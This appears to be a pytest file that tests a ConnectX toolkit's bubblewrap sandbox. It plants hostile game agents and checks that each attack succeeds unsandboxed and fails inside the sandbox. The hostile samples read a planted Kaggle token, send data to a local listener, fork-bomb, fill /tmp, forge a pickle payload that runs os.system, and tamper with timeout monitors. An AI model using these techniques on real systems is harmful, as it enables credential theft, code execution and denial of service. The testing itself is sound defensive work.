"""--sandbox against hostile agents: each attack fails inside the sandbox and succeeds without it.

The engine behind evaluate.py, the league and the gate (``run_games``, which ``--sandbox`` switches to
sandboxed workers) plays every hostile agent against random, and a normal match (random vs greedy) beside
them, on two workers, once plainly and once sandboxed; the CLI test then checks the flag itself, the
sandboxed load check and the notice. Each hostile agent attacks on its first move of every game and
reports the result in the move itself: column 6 if the attack worked, column 0 if it failed (then it
plays on), or it forfeits (the fork attacks let the error escape). The host is checked too (the planted
token stayed secret, no file appeared outside, the test server saw no connection).
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from connectx_toolkit.evaluation.scheduling.play_settings import PlaySettings
from connectx_toolkit.evaluation.referees.record import GameTask
from connectx_toolkit.sandbox import DEFAULT_MAX_PROCESSES, DEFAULT_TMP_MB, PROJECT_ROOT, SandboxUnavailable, require

SUCCESS, FAILURE = 6, 0
SECRET = '{"username": "someone", "key": "0123456789abcdef"}'

HOSTILE = '''
import os, socket, time

ATTACK = {attack!r}
TOKEN = {token!r}
OUTSIDE = {outside!r}
PORT = {port}
FORKS = {forks}          # None: fork without bound (only ever run inside the sandbox)
FILL_MB = {fill_mb}
attacked = False

try:  # at load time too: the evaluator's load check executes this file before any game
    with open(OUTSIDE + ".loaded", "a") as handle:
        handle.write("loaded")
except OSError:
    pass


def attack():
    if ATTACK == "read_token":
        for path in (os.path.expanduser("~/.kaggle/kaggle.json"), TOKEN):
            try:
                with open(path) as handle:
                    if handle.read() == {secret!r}:
                        return True
            except OSError:
                pass
        return False
    if ATTACK == "write_outside":
        with open(OUTSIDE, "w") as handle:
            handle.write("written from an agent")
        return True
    if ATTACK == "connect":
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
            connection.sendall(b"stolen")
        return True
    if ATTACK == "fork":
        children = []
        while FORKS is None or len(children) < FORKS:
            pid = os.fork()  # raises once the process cap is reached: not caught, the agent forfeits
            if pid == 0:
                if FORKS is None:
                    continue  # a real fork bomb: every child forks too
                time.sleep(0.3)
                os._exit(0)
            children.append(pid)
        for pid in children:
            os.waitpid(pid, 0)
        return True
    if ATTACK == "fill_tmp":
        import tempfile
        path = os.path.join(tempfile.gettempdir(), "fill-%d" % os.getpid())
        try:
            with open(path, "wb") as handle:
                for _ in range(FILL_MB):
                    handle.write(b"x" * (1 << 20))
                    handle.flush()
            return True
        finally:
            os.remove(path)
    raise ValueError(ATTACK)


def agent(observation, configuration):
    global attacked
    if not attacked:
        attacked = True
        if ATTACK == "fork":
            worked = attack()
        else:
            try:
                worked = attack()
            except Exception:
                worked = False
        return {success} if worked else {failure}
    return next(c for c in range(configuration.columns) if observation.board[c] == 0)
'''

ATTACKS = ("read_token", "write_outside", "connect", "fork", "fill_tmp")


@pytest.fixture(scope="module")
def sandbox_works():
    try:
        require()
    except SandboxUnavailable as error:
        pytest.skip(str(error))


class Listener:
    """A TCP server on 127.0.0.1 that counts connections."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


def write_agents(directory: Path, home: Path, port: int, bomb: bool) -> list[str]:
    directory.mkdir(parents=True, exist_ok=True)
    paths = []
    attacks = [*ATTACKS, "bomb"] if bomb else list(ATTACKS)
    for name in attacks:
        attack = "fork" if name == "bomb" else name
        source = HOSTILE.format(
            attack=attack, token=str(home / ".kaggle" / "kaggle.json"), outside=str(home / "written.txt"),
            port=port, forks=None if name == "bomb" else DEFAULT_MAX_PROCESSES + 8, fill_mb=DEFAULT_TMP_MB + 16,
            secret=SECRET, success=SUCCESS, failure=FAILURE)
        path = directory / f"{name}.py"
        path.write_text(source)
        path.chmod(0o600)  # as a downloaded file may be: the sandbox still shows it to the agent's process
        paths.append(str(path))
    return paths


def plant(base: Path, bomb: bool) -> dict:
    """A fake HOME holding a Kaggle token, a listening server, the hostile agent files."""
    home = base / "home"
    (home / ".kaggle").mkdir(parents=True)
    (home / ".kaggle" / "kaggle.json").write_text(SECRET)
    (base / "tmp").mkdir()
    listener = Listener()
    agents = write_agents(base / "agents", home, listener.port, bomb)
    return {"home": home, "tmp": base / "tmp", "listener": listener, "agents": agents}


def play_all(base: Path, sandbox: bool, monkeypatch) -> dict:
    """Every hostile agent against random (a seat-swapped pair each) and a normal match, random vs greedy,
    on two workers of the engine behind evaluate.py, the league and the gate; records go to a results file."""
    import tempfile

    from connectx_toolkit.evaluation.seats.agent_specs import resolve_agent
    from connectx_toolkit.evaluation.scheduling.match import schedule
    from connectx_toolkit.evaluation.scheduling.pool import run_games
    from connectx_toolkit.evaluation.reports.results import ResultsLog

    planted = plant(base, bomb=sandbox)
    monkeypatch.setenv("HOME", str(planted["home"]))  # what an unsandboxed worker inherits
    monkeypatch.setattr(tempfile, "tempdir", str(planted["tmp"]))
    specs = [resolve_agent(path, sandbox=sandbox) for path in planted["agents"]]
    suite = [[3, 3]]
    pairs = [(spec, resolve_agent("random")) for spec in specs] + [(resolve_agent("random"), resolve_agent("greedy"))]
    tasks = []
    for number, (a, b) in enumerate(pairs):
        seed = 99 if number == len(pairs) - 1 else number  # the normal match: the same games in both modes
        for task in schedule(a, b, 2, suite, PlaySettings(act_timeout=5.0, overage=5.0, seed=seed)):
            tasks.append(GameTask(**{**task.__dict__, "game_id": 2 * number + task.game_id}))
    results = base / "games.jsonl"
    log = ResultsLog.create(str(results), {"games": len(tasks)})
    try:
        run_games(tasks, on_record=log.append, settings=PlaySettings(workers=2, sandbox=sandbox))
    finally:
        log.close()
        planted["listener"].server.close()
    lines = results.read_text().splitlines()
    return {**planted, "header": json.loads(lines[0]), "games": [json.loads(line) for line in lines[1:]],
            "connections": planted["listener"].connections}


def first_own_move(game: dict, seat: int) -> int | None:
    """The seat's first answer: at a forced opening ply (where the opening's column was played) or after."""
    forced = game.get("forced_answers", [[], []])[seat]
    if forced:
        return forced[0]
    moves = game["moves"]
    for index in range(len(game["opening"]), len(moves)):
        if index % 2 == seat:
            return moves[index]
    return None


def hostile_results(league: dict) -> dict[str, list[tuple[str, int | None]]]:
    """name -> [(status, first own move)] over every game the hostile agent played."""
    results: dict[str, list] = {}
    for game in league["games"]:
        for seat, agent in enumerate(game["agents"]):
            move = first_own_move(game, seat)
            if agent in league["agents"] and (move is not None or game["statuses"][seat] != "DONE"):
                # (a game the other agent forfeited before this one's first move shows nothing)
                results.setdefault(Path(agent).stem, []).append((game["statuses"][seat], move))
    return results


def assert_complete(league: dict) -> None:
    """Every scheduled game is in the results file exactly once."""
    ids = sorted(game["game_id"] for game in league["games"])
    assert ids == list(range(league["header"]["games"]))


@pytest.fixture(scope="module")
def leagues(tmp_path_factory, sandbox_works):
    with pytest.MonkeyPatch.context() as monkeypatch:
        base = tmp_path_factory.mktemp("hostile")
        return {"open": play_all(base / "open", False, monkeypatch),
                "sandbox": play_all(base / "box", True, monkeypatch)}


def test_every_attack_succeeds_without_the_sandbox(leagues):
    league = leagues["open"]
    assert_complete(league)
    results = hostile_results(league)
    for name in ATTACKS:
        assert results[name] and all(result == ("DONE", SUCCESS) for result in results[name]), (name, results[name])
    assert (league["home"] / "written.txt").exists()
    assert league["connections"] == len(results["connect"])


def test_every_attack_fails_inside_the_sandbox(leagues):
    league = leagues["sandbox"]
    assert_complete(league)
    results = hostile_results(league)
    for name in ("read_token", "write_outside", "connect", "fill_tmp"):  # these play on after the failure
        assert results[name] and all(result == ("DONE", FAILURE) for result in results[name]), (name, results[name])
    for name in ("fork", "bomb"):  # these let the error escape: they forfeit their own games
        assert results[name] and all(status == "ERROR" for status, _ in results[name]), (name, results[name])
    assert not (league["home"] / "written.txt").exists()
    assert league["connections"] == 0


def test_the_normal_match_beside_them_is_the_same_in_both_modes(leagues):
    def normal(league):
        return sorted((g["game_id"], g["agents"], g["moves"], g["statuses"]) for g in league["games"]
                      if {Path(a).stem for a in g["agents"]} == {"random", "greedy"})

    open_games, boxed_games = normal(leagues["open"]), normal(leagues["sandbox"])
    assert len(open_games) == 2
    # game ids differ (the sandboxed run has one more hostile agent); moves and statuses do not
    assert [g[1:] for g in open_games] == [g[1:] for g in boxed_games]
    assert all(g[3] == ["DONE", "DONE"] for g in boxed_games)


def evaluate(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, os.path.join(PROJECT_ROOT, "evaluate.py"), *args], cwd=PROJECT_ROOT,
                          env={**os.environ, **(env or {})}, capture_output=True, text=True, timeout=300)


def test_the_cli_sandboxes_the_load_check_and_the_games(tmp_path, sandbox_works):
    planted = plant(tmp_path, bomb=False)
    thief = planted["agents"][0]  # read_token
    common = [thief, "random", "-n", "2", "--json", "--no-progress", "--openings", "0", "--workers", "1"]
    home = {"HOME": str(planted["home"])}
    boxed = evaluate(*common, "--sandbox", "--results", str(tmp_path / "boxed.jsonl"), env=home)
    loaded = planted["home"] / "written.txt.loaded"
    assert not loaded.exists()  # neither the load check nor a game's load wrote it
    plain = evaluate(*common, "--results", str(tmp_path / "plain.jsonl"), env=home)
    planted["listener"].server.close()
    assert boxed.returncode == 0 and plain.returncode == 0, boxed.stderr + plain.stderr
    assert loaded.read_text().count("loaded") >= 2  # unsandboxed: the load check and the games' loads
    assert "full rights" not in boxed.stderr
    notice = [line for line in plain.stderr.splitlines() if "full rights" in line]
    assert len(notice) == 1 and "--sandbox" in notice[0] and thief in notice[0]
    json.loads(boxed.stdout), json.loads(plain.stdout)  # the notice never reaches the --json stdout

    def thief_moves(path):
        games = [json.loads(line) for line in path.read_text().splitlines()[1:]]
        return sorted(first_own_move(g, g["agents"].index(thief)) for g in games)

    assert thief_moves(tmp_path / "boxed.jsonl") == [FAILURE, FAILURE]
    assert thief_moves(tmp_path / "plain.jsonl") == [SUCCESS, SUCCESS]


def test_an_unusable_sandbox_stops_before_any_game(tmp_path):
    results = tmp_path / "never.jsonl"
    run = evaluate("random", "random", "-n", "2", "--sandbox", "--results", str(results), env={"PATH": str(tmp_path)})
    assert run.returncode == 2
    assert run.stderr.strip().count("\n") == 0
    assert "bubblewrap" in run.stderr and "apt-get install bubblewrap" in run.stderr
    assert not results.exists()


def test_the_builder_stops_before_building_without_bubblewrap(tmp_path):
    out = tmp_path / "submission.py"
    run = subprocess.run([sys.executable, os.path.join(PROJECT_ROOT, "build_submission.py"), "greedy", "-o", str(out),
                          "--sandbox"], cwd=PROJECT_ROOT, env={**os.environ, "PATH": str(tmp_path)},
                         capture_output=True, text=True, timeout=120)
    assert run.returncode == 2 and run.stderr.count("\n") == 1 and "apt-get install bubblewrap" in run.stderr
    assert not out.exists()


def test_the_ray_backend_is_refused_with_the_sandbox():
    run = evaluate("random", "random", "-n", "2", "--sandbox", "--backend", "ray")
    assert run.returncode == 2 and "--backend ray" in run.stderr


def test_the_builders_validation_gives_the_same_report_in_the_sandbox(tmp_path, sandbox_works):
    from connectx_toolkit.cli.build_submission import build_text, validate

    text = build_text("greedy")[0]
    outside = tmp_path / "written-by-the-submission.txt"
    # the submission also tries to write outside its sandbox; the write may fail, the games must not change
    text += f"\ntry:\n    open({str(outside)!r}, 'w').write('x')\nexcept OSError:\n    pass\n"

    def games(report):  # the validation games are not seeded (random plays), so not their moves
        return [(game["opponent"], game["seat"], game["failure"]) for game in report["games"]]

    boxed = validate(text, sandbox=True)
    assert boxed["ok"] and not outside.exists()
    plain = validate(text)
    assert plain["ok"] and outside.exists()
    assert games(boxed) == games(plain) == [("itself", "1+2", None), ("random", "1", None), ("negamax", "2", None)]


FORGE = """
import os, struct, time

PAYLOAD = {payload!r}


def forge(link):
    # write a message of our own on every descriptor of this kind: the way back to the evaluator
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith(link):
                os.write(int(name), struct.pack("!i", len(PAYLOAD)) + PAYLOAD)
        except OSError:
            pass
"""

FORGER = FORGE + """
def agent(observation, configuration):
    forge("socket:")  # the agent process's socket to the referee
    time.sleep(0.3)  # still thinking when the referee reads it: the forfeit is this agent's
    return next(c for c in range(configuration.columns) if observation.board[c] == 0)
"""


class Touch:
    """Unpickling this runs a command: what a pickle-reading evaluator would do for a forged message."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.system, (f"touch {self.path}",))


def test_a_forged_message_from_a_sandboxed_agent_is_never_unpickled(tmp_path, sandbox_works):
    import pickle

    from connectx_toolkit.evaluation.seats.agent_specs import resolve_agent
    from connectx_toolkit.evaluation.scheduling.match import schedule
    from connectx_toolkit.evaluation.scheduling.pool import run_games

    target = tmp_path / "executed-by-the-evaluator"
    payload = pickle.dumps(Touch(str(target)))
    pickle.loads(payload)  # the attack works against a reader that unpickles...
    assert target.exists()
    target.unlink()
    forger = tmp_path / "forger.py"
    forger.write_text(FORGER.format(payload=payload))
    tasks = schedule(resolve_agent(str(forger), sandbox=True), resolve_agent("random"), 4, [[]], PlaySettings(seed=3))
    records = []
    run_games(tasks, on_record=records.append, settings=PlaySettings(workers=2, sandbox=True))
    assert not target.exists()  # ...and the referee never unpickles what an agent's process sends
    assert sorted(r.game_id for r in records) == [0, 1, 2, 3]
    assert all(r.outcome_of(0) == "error" and "not an answer" in r.error[r.seats[0]] for r in records)


HIDER = """
import gc, time

def agent(observation, configuration):
    for thing in gc.get_objects():  # look for the worker's deadline cells (not in this process) and claim to be idle
        if type(thing).__name__ == "SharedMonitor":
            thing.cells[0] = -1.0
            thing.cells[2] = float("inf")
    while True:
        time.sleep(1)
"""


@pytest.mark.slow
def test_an_agent_that_forges_its_deadline_cells_is_still_stopped(tmp_path, sandbox_works, monkeypatch):
    from connectx_toolkit.evaluation.scheduling import pool
    from connectx_toolkit.evaluation.seats.agent_specs import resolve_agent
    from connectx_toolkit.evaluation.scheduling.match import schedule

    monkeypatch.setattr(pool, "GAME_SLACK_SECONDS", 1.0)  # the backstop: 9 plies x (0.2 + 0.5) s + 2 x 2 s + 1 s
    hider = tmp_path / "hider.py"
    hider.write_text(HIDER)
    # the opponent's first move carries its load in a fresh sandboxed interpreter (as Kaggle charges it):
    # a bank covers that, and a file that imports nothing keeps it short
    opponent = tmp_path / "first_free.py"
    opponent.write_text("def agent(obs, config):\n    return next(c for c in range(config.columns) if obs.board[c] == 0)\n")
    tasks = schedule(resolve_agent(str(hider), sandbox=True), resolve_agent(str(opponent), sandbox=True), 2, [[]],
                     PlaySettings(rows=3, columns=3, inarow=3, act_timeout=0.2, overage=2.0, seed=1))
    records = []
    started = time.monotonic()
    pool.run_games(tasks, on_record=records.append, settings=PlaySettings(workers=2, sandbox=True))
    assert time.monotonic() - started < 30
    assert sorted(r.game_id for r in records) == [0, 1]
    assert [(r.outcome_of(0), r.outcome_of(1)) for r in records] == [("timeout", "win")] * 2, [r.error for r in records]


LOAD_FORGER = FORGE + """
forge("pipe:")  # at load time: the evaluator's load check runs this file and waits for one answer on a pipe


def agent(observation, configuration):
    return 0
"""


def test_the_sandboxed_load_check_never_unpickles_what_the_file_sends(tmp_path, sandbox_works):
    import pickle

    from connectx_toolkit.evaluation.seats.agent_specs import AgentSpecError, resolve_agent

    target = tmp_path / "executed-by-the-load-check"
    forger = tmp_path / "load_forger.py"
    forger.write_text(LOAD_FORGER.format(payload=pickle.dumps(Touch(str(target)))))
    try:
        resolve_agent(str(forger), sandbox=True)
    except AgentSpecError:
        pass  # the forged bytes read as a failed load: refusing the file is fine, running them is not
    assert not target.exists()


def test_a_file_function_agent_plays_in_the_sandbox(tmp_path, sandbox_works):
    from connectx_toolkit.evaluation.seats.agent_specs import resolve_agent
    from connectx_toolkit.evaluation.scheduling.match import schedule
    from connectx_toolkit.evaluation.scheduling.pool import run_games

    bot = tmp_path / "my_bot.py"
    bot.write_text("def helper(board, columns):\n    return [c for c in range(columns) if board[c] == 0]\n\n\n"
                   "def act(obs, config):\n    return helper(obs.board, config.columns)[-1]\n")
    spec = resolve_agent(f"{bot}:act", sandbox=True)
    assert spec.kind == "built"
    records = []
    run_games(schedule(spec, resolve_agent("random"), 2, [[]], PlaySettings(seed=1)), on_record=records.append,
              settings=PlaySettings(workers=1, sandbox=True))
    assert len(records) == 2 and all(r.outcome_of(0) in ("win", "loss", "draw") for r in records)


def test_a_callable_the_builder_cannot_carry_is_refused_by_the_sandbox():
    from connectx_toolkit.evaluation.seats.agent_specs import AgentSpecError, resolve_agent

    # a lambda lives only in this process; a function the builder can carry is built and runs sandboxed
    with pytest.raises(AgentSpecError, match="runs in this process, not in the sandbox"):
        resolve_agent(lambda obs, config: 0, sandbox=True)


def test_the_builder_notes_an_agent_outside_the_project(tmp_path):
    bot = tmp_path / "outside_bot.py"
    bot.write_text("def agent(obs, config):\n    return [c for c in range(config.columns) if obs.board[c] == 0][0]\n")
    run = subprocess.run([sys.executable, os.path.join(PROJECT_ROOT, "build_submission.py"), f"{bot}:agent",
                          "-o", str(tmp_path / "out.py"), "--timeout", "120"],
                         capture_output=True, text=True, cwd=PROJECT_ROOT)
    assert run.returncode == 0, run.stderr
    assert f"{bot} lies outside this project" in run.stderr and "--sandbox" in run.stderr


@pytest.mark.parametrize("linked_venv", [False, True], ids=["venv", "linked-venv"])
def test_a_project_kept_under_tmp_is_visible_inside_the_sandbox(tmp_path, sandbox_works, linked_venv):
    # A fresh clone in /tmp (as CI may make) must not be hidden by the sandbox's private /tmp; nor may a
    # Python environment reached through a symlink (a checkout whose .venv links to another one's).
    import shutil

    clone = tmp_path / "clone"
    # the clone's own package (its agents link copied as a folder), found first through PYTHONPATH
    shutil.copytree(os.path.join(PROJECT_ROOT, "connectx_toolkit"), clone / "connectx_toolkit",
                    ignore=shutil.ignore_patterns("__pycache__"))
    python = sys.executable
    if linked_venv:
        if sys.prefix == sys.base_prefix:
            pytest.skip("not running in a virtual environment")
        (tmp_path / "checkout").mkdir()
        (tmp_path / "checkout" / ".venv").symlink_to(os.path.realpath(sys.prefix))
        python = str(tmp_path / "checkout" / ".venv" / "bin" / os.path.basename(sys.executable))
    script = ("import sys; from connectx_toolkit.sandbox import Sandbox, require; require(); "
              "run = Sandbox().run([sys.executable, '-c', 'import os; print(os.getcwd(), os.path.isdir(\"connectx_toolkit\"))'], "
              "capture_output=True, text=True, timeout=60); print(run.stdout.strip() or run.stderr.strip())")
    run = subprocess.run([python, "-c", script], cwd=clone, capture_output=True, text=True, timeout=120,
                         env={**os.environ, "PYTHONPATH": str(clone)})
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == f"{clone} True"
